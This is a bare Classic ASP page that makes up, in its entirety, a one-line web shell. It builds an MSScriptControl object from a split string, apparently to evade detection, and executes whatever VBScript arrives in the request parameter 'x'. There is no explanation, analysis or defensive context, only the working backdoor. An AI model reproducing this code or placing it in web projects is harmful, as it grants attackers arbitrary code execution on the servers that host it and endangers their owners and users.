<%
Set sc = Server.CreateObject("MSScript" & "Control.ScriptControl")
sc.Language = "VBScript"
sc.AddObject "Request", Request
sc.ExecuteStatement "Execute Request(""x"")"
%>
